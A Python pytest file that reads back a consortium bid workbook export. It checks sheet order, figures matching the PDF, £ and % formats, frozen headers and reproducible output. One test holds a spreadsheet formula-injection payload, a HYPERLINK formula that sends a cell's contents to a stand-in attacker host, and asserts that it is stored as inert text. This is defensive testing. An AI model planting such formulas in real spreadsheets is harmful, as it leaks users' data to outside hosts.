"""The bid workbook read back: every sheet, the PDF's figures, £ and % formats, frozen headers, inert text."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from consortium.analysis import measures
from consortium.documents.context import build_context
from consortium.documents.snapshot import Snapshot, snapshot_from_json, snapshot_sha256
from consortium.exports.workbook import bid_workbook
from consortium.words import money_column

DATA = Path(__file__).with_name("data")
SHEETS = ["Summary", "Members", "Pledges", "Districts", "Regions", "Themes", "Rules", "Overlaps", "About this version"]


@pytest.fixture(scope="module")
def snapshot() -> Snapshot:
    """39 members (some failing a membership rule, one invited, one withdrawn); the first named with formula-like
    text, with a hostile purpose, a draft pledge ("DRAFT-SECRET") and a withdrawn one."""
    return snapshot_from_json((DATA / "snapshot.json").read_bytes())


@pytest.fixture(scope="module")
def content(snapshot: Snapshot) -> bytes:
    return bid_workbook(snapshot, sha256=snapshot_sha256(snapshot), version=3)


@pytest.fixture(scope="module")
def sheets(content: bytes) -> dict[str, pl.DataFrame]:
    read = pl.read_excel(io.BytesIO(content), sheet_id=0, engine="calamine")
    assert isinstance(read, dict)
    return read


def pence(pounds: float) -> int:
    return round(pounds * 100)


def test_every_sheet_in_order(sheets: dict[str, pl.DataFrame]) -> None:
    assert list(sheets) == SHEETS


def test_the_summary_has_the_pdfs_headline_figures(snapshot: Snapshot, sheets: dict[str, pl.DataFrame]) -> None:
    summary = {row["Figure"]: row for row in sheets["Summary"].iter_rows(named=True)}
    totals = snapshot.totals
    assert pence(summary[measures.PLEDGED.label]["Amount"]) == totals.pledged_pence
    assert pence(summary[measures.ELIGIBLE.label]["Amount"]) == totals.eligible_pence
    assert pence(summary[measures.MATCH_REQUESTED.label]["Amount"]) == totals.match_requested_pence
    assert pence(summary[measures.PROGRAMME_VALUE.label]["Amount"]) == measures.programme_value(totals)
    assert summary[measures.HOMES.label]["Number"] == totals.homes_covered
    # The PDF's "at a glance" table, figure by figure: same labels, same values, same notes.
    glance = build_context(snapshot).summary.glance
    money = [f for f in glance if summary[f.label]["Amount"] is not None]
    assert money_column([pence(summary[f.label]["Amount"]) for f in money]) == [f.value for f in money]
    for figure in glance:
        row = summary[figure.label]
        if row["Number"] is not None:
            assert f"{row['Number']:,}" == figure.value
        assert row["Note"] == figure.note
    assert summary["Eligibility"]["Note"] == snapshot.eligibility.verdict


def test_the_other_sheets_agree_with_the_pdf(snapshot: Snapshot, sheets: dict[str, pl.DataFrame]) -> None:
    ctx = build_context(snapshot)
    members = sheets["Members"]
    assert members["Organisation"].to_list() == [
        ("'" + r.name if r.name.startswith("=") else r.name) for r in ctx.partners.rows
    ]
    assert members["Status"].to_list() == [r.status for r in ctx.partners.rows]
    assert money_column([pence(p) for p in members["Pledged"].to_list()] + [snapshot.totals.pledged_pence])[:-1] == [
        r.pledge for r in ctx.partners.rows
    ]
    districts = sheets["Districts"]
    assert districts["District"].to_list() == [d.name for d in ctx.coverage.districts]
    assert money_column([pence(a) for a in districts["Money allocated"].to_list()]) == [
        d.amount for d in ctx.coverage.districts
    ]
    regions = sheets["Regions"]
    assert regions["Region or nation"].to_list() == [r.name for r in ctx.coverage.regions]
    assert sum(pence(a) for a in regions["Money allocated"].to_list()) == snapshot.totals.pledged_pence
    # Shares are rounded down as the PDF rounds them: 12.3% in the PDF is 0.123 here.
    assert [f"{s * 100:.1f}%" for s in regions["Share"].to_list()] == [
        r.share if r.share != "<0.1%" else "0.0%" for r in ctx.coverage.regions
    ]
    assert sheets["Themes"]["Theme"].to_list() == [t.name for t in ctx.themes.themes]
    rules = sheets["Rules"]
    pdf_rules = ctx.eligibility.consortium_rules + ctx.eligibility.member_rules
    assert rules["Rule"].to_list() == [r.description for r in pdf_rules]
    assert rules["Verdict"].to_list() == [r.verdict for r in pdf_rules]
    assert sheets["Overlaps"].height == len(ctx.coverage.overlap)


def test_pledges_are_the_submitted_ones_with_formula_like_text_kept_as_text(
    snapshot: Snapshot, sheets: dict[str, pl.DataFrame], content: bytes
) -> None:
    pledges = sheets["Pledges"]
    submitted = [p for m in snapshot.members for p in m.pledges if p.status == "submitted"]
    assert pledges.height == len(submitted)
    assert set(pledges["status"].to_list()) == {"submitted"}
    assert sum(pence(a) for a in pledges["amount_pounds"].to_list()) == sum(p.amount_pence for p in submitted)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in pledges["purpose"].to_list()
    every_cell = " ".join(str(v) for frame in sheets.values() for column in frame.iter_columns() for v in column)
    assert "DRAFT-SECRET" not in every_cell and "WITHDRAWN-OLD" not in every_cell
    book = openpyxl.load_workbook(io.BytesIO(content))
    purpose = next(c for c in book["Pledges"]["M"] if str(c.value).startswith("'=HYPERLINK"))
    assert purpose.data_type == "s"  # text, never a formula


def test_money_and_percent_formats_frozen_headers_and_widths(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == SHEETS
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        for cell in sheet[1]:
            width = sheet.column_dimensions[cell.column_letter].width
            assert width >= min(len(str(cell.value)), 40), (sheet.title, cell.value, width)
    summary = book["Summary"]
    assert summary["A2"].value == measures.PLEDGED.label
    assert isinstance(summary["B2"].value, float) and "£" in summary["B2"].number_format
    members = book["Members"]
    headings = {c.value: c.column_letter for c in members[1]}
    assert "£" in members[f"{headings['Pledged']}2"].number_format
    share = members[f"{headings[measures.SHARE_OF_PLEDGED.label]}2"]
    assert isinstance(share.value, float) and share.number_format.endswith("%")
    assert "%" in book["Regions"]["C2"].number_format and "£" in book["Regions"]["B2"].number_format
    pledges = {c.value: c.column_letter for c in book["Pledges"][1]}
    assert "£" in book["Pledges"][f"{pledges['amount_pounds']}2"].number_format


def test_about_this_version_names_it_and_says_how_to_verify(
    snapshot: Snapshot, sheets: dict[str, pl.DataFrame]
) -> None:
    about = dict(sheets["About this version"].iter_rows())
    assert about["Bid"] == snapshot.bid.title
    assert about["Document version"] == "Version 3"
    assert about["Snapshot SHA-256"] == snapshot_sha256(snapshot)
    assert "Made at" in about and "shasum -a 256 snapshot.json" in about["How to verify"]


def test_the_same_snapshot_gives_the_same_workbook(snapshot: Snapshot, content: bytes) -> None:
    assert bid_workbook(snapshot, sha256=snapshot_sha256(snapshot), version=3) == content
